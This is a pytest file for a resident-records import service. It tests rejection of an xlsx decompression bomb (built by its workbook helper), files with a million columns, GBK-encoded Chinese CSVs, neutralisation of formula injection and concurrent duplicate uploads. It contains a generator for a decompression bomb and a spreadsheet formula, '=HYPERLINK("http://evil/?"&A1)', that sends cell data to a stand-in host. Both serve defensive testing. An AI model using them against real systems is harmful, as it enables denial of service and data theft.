"""Files as large and as twisted as somebody can make them, and two people who send the same one."""

from __future__ import annotations

import tracemalloc
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import timedelta
from io import BytesIO

import pytest
from sqlalchemy import func, select

from dispatch.models.people import Elder
from dispatch.models.places import Household
from dispatch.services.imports import export, row_faults, sheets, uploads
from tests.support.factories import Town
from tests.support.tables import ELDERS, LI, WU, ZHOU, Importer, as_csv, numbers, row

MB = 1024 * 1024
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def boss(town: Town) -> Importer:
    return Importer(town)


@contextmanager
def memory(most_mb: int) -> Iterator[None]:
    tracemalloc.start()
    try:
        yield
        peak = tracemalloc.get_traced_memory()[1] / MB
    finally:
        tracemalloc.stop()
    assert peak < most_mb, f"{peak:.0f} MB"


def workbook(*sheet: bytes, times: int = 1) -> bytes:
    """Of one sheet: its first piece, the middle one so many times, and the last."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook {MAIN} xmlns:r="{RELATION}"><sheets>'
            '<sheet name="1" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{RELATION}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as file:
            first, middle, last = sheet
            file.write(first)
            for _ in range(times):
                file.write(middle)
            file.write(last)
    return buffer.getvalue()


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # no row of it comes to the database
def test_a_real_bomb_takes_neither_memory_nor_minutes(boss: Importer) -> None:
    """5 GB of blanks in 5 MB."""
    bomb = workbook(f"<worksheet {MAIN}><sheetData>".encode(), b" " * (8 * MB), b"</sheetData></worksheet>", times=640)
    assert len(bomb) < 8 * MB
    with memory(64):
        found = boss.check(bomb)
    assert (found["state"], found["fault"]["code"]) == ("failed", "unpacks_too_large")


def test_a_million_columns_are_refused_in_both_formats(boss: Importer) -> None:
    cells = b"".join(b'<c t="n"><v>1</v></c>' for _ in range(1_000))
    wide = workbook(
        f'<worksheet {MAIN}><sheetData><row r="1">'.encode(), cells, b"</row></sheetData></worksheet>", times=1_000
    )
    with memory(64):
        assert boss.check(wide)["fault"] == {"code": "too_many_columns", "data": {"row": "1", "most": "200"}}
    with memory(64):
        text = boss.check(b"a" + b",a" * 1_000_000)
    assert text["fault"]["code"] in {"too_many_columns", "line_too_long"}


def test_a_file_from_a_chinese_office_is_read_as_it_is(boss: Importer) -> None:
    """GBK, semicolons in the addresses, numbers with blanks, full-width digits, headings in another order."""
    head = ["地址", "姓名 ", "性 别", "出生日期", "电话", "所属区划*"]
    line = ["柳荫路１８号；后门", "欧阳　娜娜", "女", "1942/3/15", "１３８ 0000 1234", "Elm"]
    assert numbers(boss.bring_in(as_csv([head, line], "gbk"))) == (1, 0, 0, 0)
    with boss.centre.database.reads() as session:
        elder, home = (
            session.execute(
                select(Elder, Household).join(Household, Household.id == Elder.household_id).order_by(Elder.id.desc())
            ).first()
            or ()
        )
        assert (elder.phone, elder.birth_date.isoformat()) == ("13800001234", "1942-03-15")
        assert "18号" in home.address or "１８号" in home.address


def test_no_formula_comes_in_and_none_goes_out(boss: Importer, monkeypatch: pytest.MonkeyPatch) -> None:
    attack = '=HYPERLINK("http://evil/?"&A1)'
    checked = boss.check([ELDERS, row(attack, phone="13800001111"), row("好人", phone="13800002222", address="-2+3")])
    assert numbers(checked) == (1, 0, 0, 1)
    back = row_faults.to_mend(boss.centre, boss.actor, int(checked["id"]), "zh", boss.now)
    assert b"".join(sheets.as_csv(back)).decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK")
    boss.apply(checked)
    wanted = export.Wanted(language="zh", area_id=None, masked=False, identity=False, reason="test")
    out = b"".join(sheets.as_csv(export.elders(boss.centre, boss.actor, wanted, boss.now))).decode("utf-8-sig")
    assert ",'-2+3," in out
    assert not any(cell.startswith(("=", "+", "@", "-")) for line in out.splitlines() for cell in line.split(","))


def test_the_same_file_from_two_people_at_once_makes_nobody_twice(town: Town) -> None:
    people = [Importer(town), Importer(town, "lin")]
    content = as_csv([ELDERS, *(row(name, number) for name, number in (("李", LI), ("周", ZHOU), ("吴", WU)))])

    def send(one: Importer) -> dict[str, object]:
        return one.check(content)

    with ThreadPoolExecutor(2) as pool:
        checked = list(pool.map(send, people))
        assert [numbers(one) for one in checked] == [(3, 0, 0, 0)] * 2
        for importer, one in zip(people, checked, strict=True):
            uploads.apply(importer.centre, importer.actor, int(str(one["id"])), None, importer.now)
        list(pool.map(lambda pair: pair[0].work(pair[1]), zip(people, checked, strict=True)))
    for importer, one in zip(people, checked, strict=True):
        importer.now += timedelta(minutes=2)
        assert importer.work(one)["state"] == "applied"
    with town.centre.database.reads() as session:
        assert session.scalar(select(func.count()).where(Elder.name.in_(("李", "周", "吴")))) == 3
